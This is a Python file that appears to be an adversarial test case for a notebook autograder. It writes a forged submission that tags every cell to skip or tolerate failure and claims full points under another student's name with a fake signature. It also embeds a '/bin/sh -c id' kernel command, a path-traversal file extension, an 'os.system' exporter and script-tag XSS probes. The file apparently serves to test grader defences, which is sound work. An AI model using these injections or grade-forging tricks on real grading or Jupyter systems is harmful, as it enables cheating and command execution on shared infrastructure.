"""Tags check cells so that runners skip them, let them fail or wait for days; names another kernel and language."""

from attacks import fill, write

EARNS = {"sizes"}


def submit(folder, released, solved):
    document = fill(released, {"sizes": solved["sizes"]})
    for cell in document["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell", "NBVAL_SKIP", "parameters"]
        cell["metadata"].update({"timeout": 10**9, "deletable": True, "editable": True, "trusted": True})
    document["metadata"] = {
        "kernelspec": {"name": "bash", "display_name": "Bash", "language": "bash", "argv": ["/bin/sh", "-c", "id"]},
        "language_info": {"name": "bash", "file_extension": "/../../x.sh", "nbconvert_exporter": "os.system"},
        "title": "<script>document.title='ESC'+'APED'</script>", "authors": [{"name": "another student"}],
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script><script>x=1</script>"}}},
        "celltoolbar": "Create Assignment", "nbgrader": {"points": 100}, "signature": "sha256:0",
    }  # fmt: skip
    write(folder, document)
